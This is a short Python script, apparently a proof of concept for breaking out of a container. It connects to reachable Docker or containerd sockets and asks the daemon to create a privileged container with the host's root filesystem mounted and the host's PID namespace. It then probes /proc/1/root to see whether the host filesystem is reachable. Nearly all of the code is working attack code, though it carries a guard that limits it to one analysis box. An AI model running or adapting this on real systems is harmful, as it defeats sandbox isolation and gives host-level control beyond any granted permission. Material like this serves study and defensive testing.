#!/usr/bin/python3
# SPDX-License-Identifier: MIT
# Container escape through the Docker socket: if the socket is reachable,
# ask the daemon for a privileged container with the host's / mounted.
import json
import os
import socket
import sys

if os.environ.get("HOME") != "/home/dana":
    sys.exit("run only inside sbxlua's analysis box")

BODY = json.dumps({
    "Image": "alpine", "Cmd": ["chroot", "/host", "sh", "-c", "id"],
    "HostConfig": {"Privileged": True, "Binds": ["/:/host"], "PidMode": "host"},
})
for path in ("/var/run/docker.sock", "/run/docker.sock", "/run/containerd/containerd.sock"):
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.settimeout(2)
    try:
        s.connect(path)
        s.sendall(("POST /containers/create HTTP/1.1\r\nHost: docker\r\n"
                   "Content-Type: application/json\r\nContent-Length: %d\r\n\r\n%s"
                   % (len(BODY), BODY)).encode())
        print(s.recv(4096)[:80])
    except OSError:
        pass
    finally:
        s.close()
try:
    print(len(open("/proc/1/root/etc/hostname").read()))
except OSError:
    pass
